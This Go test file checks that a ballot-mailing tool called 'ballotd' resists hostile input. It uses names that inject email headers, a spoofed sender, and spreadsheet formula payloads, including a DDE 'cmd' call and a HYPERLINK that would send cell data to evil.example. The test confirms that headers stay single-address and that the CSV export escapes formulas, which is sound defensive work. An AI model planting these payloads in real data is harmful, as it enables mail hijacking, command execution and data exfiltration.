package main

import (
	"bytes"
	"encoding/csv"
	"mime"
	netmail "net/mail"
	"strings"
	"testing"
	"time"

	gomail "github.com/emersion/go-message/mail"
)

// TestHostileDataEndToEnd runs a race whose data an attacker wrote: member
// and leader names that try to add a recipient, a hostile BALLOTD_FROM, a
// candidate and a group named as spreadsheet formulas with a raw
// encoded-word. Every message ballotd sends over SMTP (ballots, receipts,
// announcements) names exactly one address in each of To, From and
// Reply-To to strict parsers; the subject shows the encoded-word as
// written; `export endorsements --format csv` escapes each formula cell.
func TestHostileDataEndToEnd(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	const from = `Élections <spy@evil.example>, "Staff" <staff@evil.example>`
	h.env["BALLOTD_FROM"] = from
	h.env["BALLOTD_TICK"] = "100ms"
	h.env["BALLOTD_REMIND_BEFORE"] = "off"
	const (
		group     = `@SUM(1+1)*cmd|' /C calc'!A0`
		rawWord   = "=?utf-8?q?x_=3Cspy=40evil=2Eexample=3E?="
		candidate = `=HYPERLINK("http://evil.example/?"&A1,"Click") ` + rawWord
	)
	h.ballotd("migrate")
	h.ballotd("import", "groups", h.file("g.csv", "name,state,district,leader_email,leader_name\n"+
		`"`+group+`",MA,MA-07,lead@example.org,"Lee <spy@evil.example>, Lee"`+"\n"))
	h.ballotd("import", "members", h.file("m.csv", "email,name,district\n"+
		`alice@example.net,"Bób <spy@evil.example>, Bob",MA-07`+"\n"+
		`bob@example.net,"=HYPERLINK(""http://evil.example"") <spy@evil.example>",MA-07`+"\n"))
	now := time.Now().UTC()
	// Voting opened a minute ago, so closing it "one second ago" below
	// keeps the close after the open however fast the test runs.
	h.ballotd("wave", "create", "--name", "+March", "--nominations-close", now.Add(-time.Hour).Format(time.RFC3339),
		"--voting-open", now.Add(-time.Minute).Format(time.RFC3339), "--voting-close", now.Add(48*time.Hour).Format(time.RFC3339))
	h.ballotd("candidate", "add", "--race", "MA-07", "--name", candidate, "--group", group)
	h.ballotd("race", "open", "MA-07")
	db := h.db()
	stop := h.serve()
	defer func() {
		if stop != nil {
			stop()
		}
	}()
	for _, e := range h.waitSent(2) {
		b := parseSent(t, e)
		h.reply(b.To, b.ReplyTo, voteReply(b, b.To, "v-"+b.To, "YES"))
	}
	h.waitSent(4) // the receipts
	h.shift(db, "", "", "-1 second")
	sent := h.waitSent(4 + 3) // announcements to both members and the leader
	stop()
	stop = nil

	endorse := 0
	for _, e := range sent {
		m, err := netmail.ReadMessage(bytes.NewReader(e.Data))
		if err != nil {
			t.Fatal(err)
		}
		if len(e.To) != 1 {
			t.Fatalf("envelope to %v", e.To)
		}
		for _, hd := range []struct{ name, want string }{{"To", e.To[0]}, {"From", "ballots@example.org"}, {"Reply-To", ""}} {
			v := m.Header.Get(hd.name)
			std, err1 := netmail.ParseAddressList(v)
			gm, err2 := gomail.ParseAddressList(v)
			if err1 != nil || err2 != nil || len(std) != 1 || len(gm) != 1 {
				t.Fatalf("%s: %q reads as %v (%v) and %v (%v); want one address", hd.name, v, std, err1, gm, err2)
			}
			if hd.want != "" && (std[0].Address != hd.want || gm[0].Address != hd.want) {
				t.Errorf("%s: %q reads as %s, want %s", hd.name, v, std[0].Address, hd.want)
			}
		}
		if _, ok := m.Header["Cc"]; ok {
			t.Errorf("a Cc header: %q", m.Header.Get("Cc"))
		}
		subject, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get("Subject"))
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(subject, "we endorse") {
			endorse++
			if !strings.Contains(subject, candidate) {
				t.Errorf("announcement subject %q does not show the candidate's name as written", subject)
			}
		}
	}
	if endorse != 3 {
		t.Errorf("%d announcements name the endorsed candidate, want 3", endorse)
	}

	rows, err := csv.NewReader(strings.NewReader(h.ballotd("export", "endorsements", "--format", "csv"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export csv: %v %v", rows, err)
	}
	got := map[string]string{}
	for i, col := range rows[0] {
		got[col] = rows[1][i]
	}
	for col, want := range map[string]string{"wave": "'+March", "candidate": "'" + candidate, "groups": "'" + group, "votes": "2", "race": "MA-07"} {
		if got[col] != want {
			t.Errorf("export csv %s = %q, want %q", col, got[col], want)
		}
	}
}
